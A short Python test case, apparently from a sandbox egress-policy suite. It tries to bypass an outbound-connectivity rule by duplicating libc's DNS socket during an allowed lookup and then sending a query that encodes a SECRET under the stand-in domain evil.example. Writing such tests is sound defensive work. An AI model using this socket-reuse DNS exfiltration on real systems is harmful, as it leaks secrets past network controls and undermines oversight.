# class: network
# rule: outbound_connectivity
# policy: lookups.yaml
# success: a copy of libc's socket to the name server, made during a lookup of an allowed name, is
#   used afterwards
# proof: query
# needs: resolver
# quiet: no other thread has an fd for what libc opens in a lookup
# alerts: true
# timeout: 40
import os

from attack import SECRET, attempt, beside_lookups, is_asking, question


@attempt
def ask():
    kept = []

    def keep(fd):
        copy = os.dup(fd)
        if is_asking(copy):
            kept.append(copy)
        return kept

    return beside_lookups(is_asking, keep) and os.write(kept[0], question(SECRET + ".evil.example"))
